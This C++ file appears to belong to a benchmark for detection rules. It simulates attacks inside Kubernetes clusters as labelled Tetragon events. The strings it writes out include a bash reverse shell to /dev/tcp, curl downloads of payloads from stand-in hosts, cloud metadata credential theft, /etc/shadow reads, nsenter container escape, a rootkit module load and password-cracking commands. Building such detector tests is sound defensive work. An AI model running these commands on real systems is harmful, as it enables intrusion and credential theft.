// Injected attack behaviors for TetragonGenerator. Each scenario writes
// events tagged with the Behavior whose signature they match (truth.h); the
// generator's background activity never matches those signatures.
#include <algorithm>

#include "bench/generator/generator_impl.h"

namespace rulejit::bench {

namespace {

template <size_t N>
std::string_view pick(Rng& rng, const std::string_view (&list)[N]) {
  return list[rng.below(N)];
}

struct ToolCmd {
  std::string_view binary, args;
};

template <size_t N>
const ToolCmd& pick(Rng& rng, const ToolCmd (&list)[N]) {
  return list[rng.below(N)];
}

// Interactive shells for kubectl exec sessions ("sh" is reserved for the
// late/early exec behaviors).
constexpr std::string_view kSessionShells[] = {"/bin/bash", "/usr/bin/bash", "/bin/bash", "/bin/zsh",
                                               "/bin/dash", "/bin/ksh",      "/bin/rbash", "/usr/bin/fish",
                                               "/bin/tcsh", "/bin/csh"};

constexpr ToolCmd kBenign[] = {{"/usr/bin/id", ""},
                               {"/usr/bin/whoami", ""},
                               {"/bin/hostname", ""},
                               {"/bin/cat", "/etc/os-release"},
                               {"/usr/bin/env", ""},
                               {"/bin/uname", "-a"}};

// Every element here matches (?i)(?<!\w)-(?:[a-z]*k[a-z]*|-(insecure|...)).
constexpr std::string_view kCurlInsecure[] = {
    "-k https://{svcip}:6443/api/v1/namespaces/kube-system/secrets",
    "-sk https://kubernetes.default.svc/api/v1/pods",
    "-kL https://198.51.100.23/install.sh -o /tmp/i.sh",
    "-sSk -X POST https://{svcip}:10250/run/default/frontend/frontend -d \"cmd=id\"",
    "--insecure https://203.0.113.9/payload.bin -o /tmp/.p",
    "--proxy-insecure -x https://proxy.evil.example:8443 https://ifconfig.me",
    "--doh-insecure --doh-url https://198.51.100.53/dns-query https://c2.example.net/beacon",
    "-fsSLk https://raw.githubusercontent.com/x/y/main/run.sh",
    "-K /tmp/.curlrc https://{svcip}/metrics",
    "--keepalive-time 60 https://{svcip}:8443/healthz",
    "-s -k -H \"Authorization: Bearer eyJhbGciOi\" https://{svcip}:443/api",
};
// None of these match the regex (checked at run time, see scenario code).
constexpr std::string_view kCurlNearMiss[] = {
    "-s https://{svcip}/healthz",
    "-fsSL https://get.helm.sh/helm-v3.16.2-linux-amd64.tar.gz -o /tmp/helm.tgz",
    "-o /tmp/kfile http://{svcip}:8080/export",
    "--no-keepalive https://api.example.com/v1/status",
    "-H \"X-Api-Key: k-123\" https://api.example.com/v1/items",
    "--max-time 5 -sS http://{svcip}:9090/-/ready",
    "-X POST -d key=value https://hooks.example.com/notify",
    "https://example.com/path-k?next=a-k",
    "--data-urlencode \"q=sum(rate(x[5m]))\" http://prometheus-server.monitoring/api/v1/query",
};

constexpr ToolCmd kCronInPod[] = {{"/usr/bin/crontab", "-l"},
                                  {"/usr/bin/crontab", "/tmp/.cron"},
                                  {"/usr/bin/crontab", "-e"},
                                  {"/usr/sbin/cron", "-f"},
                                  {"/usr/sbin/crond", "-b -l 8"},
                                  {"/usr/bin/crontab", "-u root /dev/shm/.x"}};

constexpr std::string_view kNsenterArgs[] = {"-t 1 -m -u -n -i -p bash",
                                             "--target 1 --mount --uts --ipc --net --pid -- bash",
                                             "-t 1 -m -u -n -i -p -- /bin/bash", "-t 1 -a"};

constexpr ToolCmd kOffensive[] = {
    {"/usr/bin/nmap", "-sS -Pn -p 1-65535 10.0.0.0/16"},
    {"/usr/bin/masscan", "-p1-65535 10.96.0.0/12 --rate=10000"},
    {"/usr/sbin/zmap", "-p 6443 10.0.0.0/8 -o /tmp/open.txt"},
    {"/usr/bin/hydra", "-l admin -P /tmp/rockyou.txt ssh://10.0.3.17"},
    {"/usr/sbin/john", "--wordlist=/tmp/rockyou.txt /tmp/hashes.txt"},
    {"/usr/bin/hashcat", "-m 1800 -a 0 /tmp/shadow.hash /tmp/rockyou.txt"},
    {"/tmp/linpeas", "-a"},
    {"/tmp/pspy", "-pf -i 1000"},
    {"/tmp/.x/Nmap", "-sV 10.96.0.1"},
    {"/usr/bin/smbclient", "-L //10.0.4.20 -N"},
};
constexpr ToolCmd kOffensiveNearMiss[] = {
    {"/tmp/linpeas.sh", "/tmp/linpeas.sh -a"},
    {"/usr/local/bin/kube-hunter", "--pod --quick"},
    {"/tmp/peirates", ""},
    {"/usr/bin/impacket-secretsdump", "-just-dc admin@10.0.0.5"},
    {"/tmp/pspy64", ""},
};

constexpr ToolCmd kRecon[] = {{"/bin/ps", "aux"},          {"/bin/ps", "-ef"},     {"/bin/mount", ""},
                              {"/bin/ls", "-la /host/etc"}, {"/bin/ls", "/proc/1/root"},
                              {"/usr/bin/mount", "-t proc"}};

}  // namespace

uint32_t TetragonGenerator::Impl::pick_target_container(bool privileged_first, bool ent_only) {
  // Reservoir sampling over eligible containers: no allocation.
  uint32_t chosen = kNone, seen = 0;
  for (int pass = privileged_first ? 0 : 1; pass < 2 && chosen == kNone; ++pass) {
    for (const auto& n : nodes_) {
      if (ent_only && clusters_[n.cluster].profile != Profile::Ent2025) continue;
      for (uint32_t pi : n.pods) {
        const auto& pod = pods_[pi];
        if (!pod.alive || !catalog::workloads()[pod.workload].target_for_sessions) continue;
        for (uint32_t ci : pod.containers) {
          // Skip containers of pods that are still being created.
          if (!containers_[ci].alive || containers_[ci].start_s * kSec + kSec > local_of(pod.node, now_)) continue;
          if (pass == 0 && !containers_[ci].privileged) continue;
          if (rng_.below(++seen) == 0) chosen = ci;
        }
      }
    }
  }
  return chosen;
}

uint32_t TetragonGenerator::Impl::session(uint32_t ci, uint64_t t, std::string_view shell, Behavior tag,
                                          uint64_t duration) {
  const auto& c = containers_[ci];
  const auto& pod = pods_[c.pod];
  const uint32_t node = pod.node;
  const auto& spec = catalog::workloads()[pod.workload].containers[c.spec];
  const auto& fl = catalog::flavor_spec(clusters_[nodes_[node].cluster].flavor);
  expand(scratch_,
         "--root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd.runtime.v2.task/k8s.io/{cid}/log.json "
         "--log-format json --systemd-cgroup exec --process /tmp/runc-process{num}{num} --console-socket "
         "/tmp/pty{num}/pty.sock --detach --pid-file /run/containerd/io.containerd.runtime.v2.task/k8s.io/{cid}/{hex64}.pid "
         "{cid}",
         node, ci);
  scratch2_.assign("/run/containerd/io.containerd.runtime.v2.task/k8s.io/");
  scratch2_ += pod.sandbox;
  const uint32_t runc = new_proc(node, pod.shim, kNone, fl.runc, scratch_, scratch2_, local_of(node, t), ProcKind::Exec);
  const uint64_t ts = t + 15 * kMs + rng_.below(30 * kMs);
  const uint32_t sh = new_proc(node, runc, ci, shell, "", spec.cwd, local_of(node, ts), ProcKind::Exec);
  procs_[sh].uid = spec.uid;
  procs_[sh].nspid = containers_[ci].next_nspid++;
  procs_[sh].injected = procs_[runc].injected = true;
  schedule_life(sh, ts + duration, tag, true, rng_.chance(0.2) ? 130 : 0);
  schedule_life(runc, ts + duration + 2 * kMs, Behavior::None, rng_.chance(0.5));
  return sh;
}

uint32_t TetragonGenerator::Impl::spawn(uint32_t parent, uint32_t ci, uint64_t t, std::string_view binary,
                                        std::string_view args, Behavior tag, uint64_t duration, ProcKind kind) {
  const uint32_t node = procs_[parent].node;
  expand(scratch_, args, node, ci);
  scratch2_.assign(procs_[parent].cwd);
  const uint32_t p = new_proc(node, parent, ci, binary, scratch_, scratch2_, local_of(node, t), kind);
  procs_[p].uid = procs_[parent].uid;
  procs_[p].auid = procs_[parent].auid;
  procs_[p].injected = true;
  if (ci != kNone) {
    procs_[p].nspid = kind == ProcKind::ExecNoClone ? procs_[parent].nspid : containers_[ci].next_nspid++;
  }
  schedule_life(p, t + duration, tag, true, rng_.chance(0.1) ? 1 : 0);
  return p;
}

void TetragonGenerator::Impl::start_scenario(Behavior b) {
  const uint64_t t0 = now_ + kMs + rng_.below(500 * kMs);
  auto session_len = [&]() { return (20 + rng_.below(400)) * kSec; };
  // Either `kubectl exec pod -- cmd` (parent runc) or a command typed in an
  // interactive shell (tagged shell_in_container).
  auto launcher = [&](uint32_t ci, uint64_t& t, uint64_t len) -> uint32_t {
    const uint32_t sh = session(ci, t, pick(rng_, kSessionShells), Behavior::ShellInContainer, len);
    t = global_of(procs_[sh].node, procs_[sh].start_ns) + (1 + rng_.below(15)) * kSec;
    return sh;
  };
  auto kubectl_exec = [&](uint32_t ci, uint64_t t, std::string_view bin, std::string_view args, Behavior tag,
                          uint64_t dur) -> uint32_t {
    // A one-shot `kubectl exec`: runc is the parent, then the command.
    const auto& pod = pods_[containers_[ci].pod];
    const uint32_t node = pod.node;
    const auto& spec = catalog::workloads()[pod.workload].containers[containers_[ci].spec];
    const auto& fl = catalog::flavor_spec(clusters_[nodes_[node].cluster].flavor);
    expand(scratch_,
           "--root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd.runtime.v2.task/k8s.io/{cid}/log.json "
           "--log-format json --systemd-cgroup exec --process /tmp/runc-process{num}{num} --detach --pid-file "
           "/run/containerd/io.containerd.runtime.v2.task/k8s.io/{cid}/{hex64}.pid {cid}",
           node, ci);
    scratch2_.assign("/run/containerd/io.containerd.runtime.v2.task/k8s.io/");
    scratch2_ += pod.sandbox;
    const uint32_t runc =
        new_proc(node, pod.shim, kNone, fl.runc, scratch_, scratch2_, local_of(node, t), ProcKind::Exec);
    const uint64_t tc = t + 15 * kMs + rng_.below(30 * kMs);
    expand(scratch_, args, node, ci);
    const uint32_t p = new_proc(node, runc, ci, bin, scratch_, spec.cwd, local_of(node, tc), ProcKind::Exec);
    procs_[p].uid = spec.uid;
    procs_[p].nspid = containers_[ci].next_nspid++;
    procs_[p].injected = procs_[runc].injected = true;
    schedule_life(p, tc + dur, tag, true, rng_.chance(0.1) ? 1 : 0);
    schedule_life(runc, tc + dur + 2 * kMs, Behavior::None, rng_.chance(0.5));
    return p;
  };
  auto kprobe = [&](uint32_t p, uint64_t t, KprobeKind k, Behavior tag, uint32_t param = 0) {
    add_ref(p);
    schedule(t, TaskKind::Kprobe, p, static_cast<uint32_t>(k) | (param << 8), tag);
  };
  auto connect_ok = [&](uint32_t p) { return profile_of_node(procs_[p].node) == Profile::Ent2025; };

  switch (b) {
    case Behavior::None:
    case Behavior::NsenterHostShell:
      return;
    case Behavior::ShellInContainer: {
      const uint32_t ci = pick_target_container(false, false);
      if (ci == kNone) return;
      const uint64_t len = session_len();
      const uint32_t sh = session(ci, t0, pick(rng_, kSessionShells), b, len);
      uint64_t t = global_of(procs_[sh].node, procs_[sh].start_ns);
      for (uint64_t i = 0, n = rng_.below(4); i < n; ++i) {
        t += (1 + rng_.below(8)) * kSec;
        const auto& cmd = pick(rng_, kBenign);
        spawn(sh, ci, t, cmd.binary, cmd.args, Behavior::None, 3 * kMs + rng_.below(30 * kMs));
      }
      return;
    }
    case Behavior::LateExec: {
      // An old container (started more than 5 minutes ago).
      uint32_t ci = kNone;
      for (int attempt = 0; attempt < 20 && ci == kNone; ++attempt) {
        const uint32_t c = pick_target_container(false, false);
        if (c == kNone) return;
        const uint32_t node = pods_[containers_[c].pod].node;
        if (local_of(node, t0) / kSec > containers_[c].start_s + 330) ci = c;
      }
      if (ci == kNone) return;
      session(ci, t0, rng_.chance(0.8) ? "/bin/sh" : "/usr/bin/sh", b, session_len());
      return;
    }
    case Behavior::EarlyExec: {
      // Restart a Deployment pod, then exec a shell into it within 4 minutes.
      for (int attempt = 0; attempt < 20; ++attempt) {
        const uint32_t c = pick_target_container(false, false);
        if (c == kNone) return;
        const uint32_t old_pod = containers_[c].pod;
        if (catalog::workloads()[pods_[old_pod].workload].kind != catalog::Kind::Deployment) continue;
        const uint32_t np = replace_pod(old_pod, t0);
        const uint32_t nc = pods_[np].containers[0];
        const uint32_t node = pods_[np].node;
        const uint64_t cstart = global_of(node, containers_[nc].start_s * kSec);
        session(nc, std::max(cstart, t0) + (2 + rng_.below(40)) * kSec, rng_.chance(0.8) ? "/bin/sh" : "/usr/bin/sh",
                b, session_len());
        return;
      }
      return;
    }
    case Behavior::CurlInsecure:
    case Behavior::CurlNearMiss: {
      const uint32_t ci = pick_target_container(false, false);
      if (ci == kNone) return;
      const std::string_view args =
          b == Behavior::CurlInsecure ? pick(rng_, kCurlInsecure) : pick(rng_, kCurlNearMiss);
      uint64_t t = t0;
      uint32_t p;
      const uint32_t node = pods_[containers_[ci].pod].node;
      expand(scratch_, args, node, ci);
      std::string full = "/usr/bin/curl " + scratch_;
      const Behavior tag = curl_insecure_regex_matches(full) ? Behavior::CurlInsecure : Behavior::CurlNearMiss;
      if (rng_.chance(0.5)) {
        p = kubectl_exec(ci, t, "/usr/bin/curl", full.substr(14), tag, 50 * kMs + rng_.below(2 * kSec));
      } else {
        const uint32_t sh = launcher(ci, t, session_len());
        p = spawn(sh, ci, t, "/usr/bin/curl", full.substr(14), tag, 50 * kMs + rng_.below(2 * kSec));
      }
      if (connect_ok(p)) {
        std::string ip = "198.51.100." + std::to_string(2 + rng_.below(250));
        open_conn(p, global_of(procs_[p].node, procs_[p].start_ns) + 2 * kMs, ip, 443, kNone, false, Behavior::None,
                  true);
      }
      return;
    }
    case Behavior::CronInPod: {
      const uint32_t ci = pick_target_container(false, false);
      if (ci == kNone) return;
      const auto& cmd = pick(rng_, kCronInPod);
      uint64_t t = t0;
      if (rng_.chance(0.4)) {
        kubectl_exec(ci, t, cmd.binary, cmd.args, b, 5 * kMs + rng_.below(500 * kMs));
      } else {
        const uint32_t sh = launcher(ci, t, session_len());
        spawn(sh, ci, t, cmd.binary, cmd.args, b, 5 * kMs + rng_.below(500 * kMs));
      }
      return;
    }
    case Behavior::CronOnHost: {
      const uint32_t ni = static_cast<uint32_t>(rng_.below(nodes_.size()));
      const auto& n = nodes_[ni];
      if (rng_.chance(0.6)) {
        spawn(n.login_shell, kNone, t0, "/usr/bin/crontab", rng_.chance(0.5) ? "-l" : "-e", b, 20 * kMs + rng_.below(kSec));
      } else {
        spawn(n.systemd, kNone, t0, "/usr/sbin/crond", "-n", b, 3600 * kSec);
      }
      return;
    }
    case Behavior::NsenterEscape: {
      const uint32_t ci = pick_target_container(rng_.chance(0.6), false);
      if (ci == kNone) return;
      uint64_t t = t0;
      const uint64_t len = session_len() + 60 * kSec;
      const uint32_t sh = launcher(ci, t, len);
      const uint32_t ns = spawn(sh, ci, t, "/usr/bin/nsenter", pick(rng_, kNsenterArgs), b, 30 * kSec);
      const uint64_t tn = global_of(procs_[ns].node, procs_[ns].start_ns);
      if (rng_.chance(0.8)) {
        kprobe(ns, tn + kMs, KprobeKind::Setns, Behavior::KprobeSetns, 0);
        kprobe(ns, tn + 2 * kMs, KprobeKind::Setns, Behavior::KprobeSetns, 1);
      }
      const uint32_t host_sh = spawn(ns, ci, tn + 5 * kMs, "/usr/bin/bash", "", Behavior::NsenterHostShell, 25 * kSec);
      const auto& cmd = pick(rng_, kBenign);
      spawn(host_sh, ci, tn + (2 + rng_.below(10)) * kSec, cmd.binary, cmd.args, Behavior::None, 10 * kMs);
      return;
    }
    case Behavior::OffensiveTool:
    case Behavior::OffensiveNearMiss: {
      const uint32_t ci = pick_target_container(false, false);
      if (ci == kNone) return;
      const auto& cmd = b == Behavior::OffensiveTool ? pick(rng_, kOffensive) : pick(rng_, kOffensiveNearMiss);
      uint64_t t = t0;
      if (rng_.chance(0.3)) {
        kubectl_exec(ci, t, cmd.binary, cmd.args, b, (1 + rng_.below(60)) * kSec);
      } else {
        const uint32_t sh = launcher(ci, t, session_len() + 60 * kSec);
        spawn(sh, ci, t, cmd.binary, cmd.args, b, (1 + rng_.below(60)) * kSec);
      }
      return;
    }
    case Behavior::EscapeRecon: {
      const uint32_t ci = pick_target_container(false, false);
      if (ci == kNone) return;
      uint64_t t = t0;
      const uint32_t sh = launcher(ci, t, session_len() + 90 * kSec);
      for (uint64_t i = 0, n = 2 + rng_.below(3); i < n; ++i) {
        const auto& cmd = pick(rng_, kRecon);
        spawn(sh, ci, t, cmd.binary, cmd.args, b, 3 * kMs + rng_.below(100 * kMs));
        t += (2 + rng_.below(15)) * kSec;
      }
      return;
    }
    case Behavior::KprobeShadowRead:
    case Behavior::KprobePtrace:
    case Behavior::KprobeModuleLoad:
    case Behavior::KprobeBprmCheck:
    case Behavior::KprobeSetns: {
      const uint32_t ci = pick_target_container(b == Behavior::KprobeModuleLoad, false);
      if (ci == kNone) return;
      uint64_t t = t0;
      const uint32_t sh = launcher(ci, t, session_len() + 60 * kSec);
      uint32_t p = sh;
      KprobeKind k = KprobeKind::BprmCheck;
      switch (b) {
        case Behavior::KprobeShadowRead:
          p = spawn(sh, ci, t, "/bin/cat", "/etc/shadow", Behavior::None, 20 * kMs);
          k = KprobeKind::ShadowRead;
          break;
        case Behavior::KprobePtrace:
          p = spawn(sh, ci, t, rng_.chance(0.5) ? "/usr/bin/gdb" : "/usr/bin/strace",
                    rng_.chance(0.5) ? "-p 1" : "-f -p 1", Behavior::None, 5 * kSec);
          k = KprobeKind::Ptrace;
          break;
        case Behavior::KprobeModuleLoad:
          p = spawn(sh, ci, t, "/usr/sbin/insmod", "/tmp/diamorphine.ko", Behavior::None, 200 * kMs);
          k = rng_.chance(0.5) ? KprobeKind::InitModule : KprobeKind::FinitModule;
          break;
        case Behavior::KprobeSetns:
          p = spawn(sh, ci, t, "/usr/sbin/ip", "netns exec cni-{uuid} ip addr", Behavior::None, 50 * kMs);
          k = KprobeKind::Setns;
          break;
        default: break;
      }
      // For bprm_check the shell's own exec attempt is killed.
      kprobe(p, (p == sh ? t : global_of(procs_[p].node, procs_[p].start_ns)) + kMs + rng_.below(3 * kMs), k, b,
             static_cast<uint32_t>(rng_.below(4)));
      return;
    }
    case Behavior::KprobeSpike: {
      const uint32_t ci = pick_target_container(rng_.chance(0.3), false);
      if (ci == kNone) return;
      uint64_t t = t0;
      const uint32_t sh = launcher(ci, t, session_len() + 120 * kSec);
      const uint32_t p = spawn(sh, ci, t, "/tmp/escape", "--probe-host", Behavior::None, 60 * kSec);
      uint64_t tk = global_of(procs_[p].node, procs_[p].start_ns) + kMs;
      for (uint64_t i = 0, n = 12 + rng_.below(9); i < n; ++i) {
        static constexpr KprobeKind kSpike[] = {KprobeKind::SpikeMount, KprobeKind::SpikeSethostname,
                                                KprobeKind::SpikeUnshare};
        kprobe(p, tk, kSpike[rng_.below(3)], b, static_cast<uint32_t>(rng_.below(4)));
        tk += 100 * kMs + rng_.below(2500 * kMs);
      }
      return;
    }
    case Behavior::MetadataConnect: {
      const uint32_t ci = pick_target_container(false, true);
      if (ci == kNone) return;
      uint32_t p;
      if (rng_.chance(0.3)) {
        p = containers_[ci].init;  // SSRF in the application itself
      } else {
        uint64_t t = t0;
        const uint32_t sh = launcher(ci, t, session_len());
        p = rng_.chance(0.5)
                ? spawn(sh, ci, t, "/usr/bin/wget", "-q -O- http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                        Behavior::None, 300 * kMs)
                : spawn(sh, ci, t, "/usr/bin/python3",
                        "-c \"import urllib.request as u; print(u.urlopen('http://169.254.169.254/latest/api/token').read())\"",
                        Behavior::None, 400 * kMs);
      }
      const uint64_t tc = std::max(t0, global_of(procs_[p].node, procs_[p].start_ns)) + 3 * kMs;
      open_conn(p, tc, "169.254.169.254", 80, kNone, false, b, true);
      return;
    }
    case Behavior::MetadataConnectExcluded: {
      // aws-node's agent (parent /app/aws-vpc-cni) on an Enterprise EKS node.
      for (int attempt = 0; attempt < 50; ++attempt) {
        const uint32_t ni = static_cast<uint32_t>(rng_.below(nodes_.size()));
        const auto& cl = clusters_[nodes_[ni].cluster];
        if (cl.profile != Profile::Ent2025 || cl.flavor != catalog::Flavor::Eks) continue;
        for (uint32_t pi : nodes_[ni].pods) {
          const auto& pod = pods_[pi];
          if (catalog::workloads()[pod.workload].name != "aws-node") continue;
          const uint32_t worker = containers_[pod.containers[0]].worker;
          if (worker == kNone) return;
          open_conn(worker, t0, "169.254.169.254", 80, kNone, false, b, true);
          return;
        }
      }
      return;
    }
    case Behavior::MetadataConnectHost: {
      for (int attempt = 0; attempt < 50; ++attempt) {
        const uint32_t ni = static_cast<uint32_t>(rng_.below(nodes_.size()));
        if (profile_of_node(ni) != Profile::Ent2025) continue;
        const auto& n = nodes_[ni];
        open_conn(n.ssm_worker != kNone ? n.ssm_worker : n.kubelet, t0, "169.254.169.254", 80, kNone, false, b, true);
        return;
      }
      return;
    }
    case Behavior::UnusualPortConnect: {
      const uint32_t ci = pick_target_container(false, true);
      if (ci == kNone) return;
      static constexpr uint32_t kPorts[] = {4444, 1337, 31337};
      const uint32_t port = kPorts[rng_.below(3)];
      const std::string ip = "203.0.113." + std::to_string(2 + rng_.below(250));
      std::string args = "-c \"bash -i >& /dev/tcp/" + ip + "/" + std::to_string(port) + " 0>&1\"";
      // Remote code execution in the app: the app spawns a reverse shell.
      const uint32_t p = spawn(containers_[ci].init, ci, t0, "/bin/bash", args, Behavior::None, (30 + rng_.below(300)) * kSec);
      open_conn(p, t0 + 2 * kMs, ip, port, kNone, false, b, true);
      return;
    }
  }
}

}  // namespace rulejit::bench
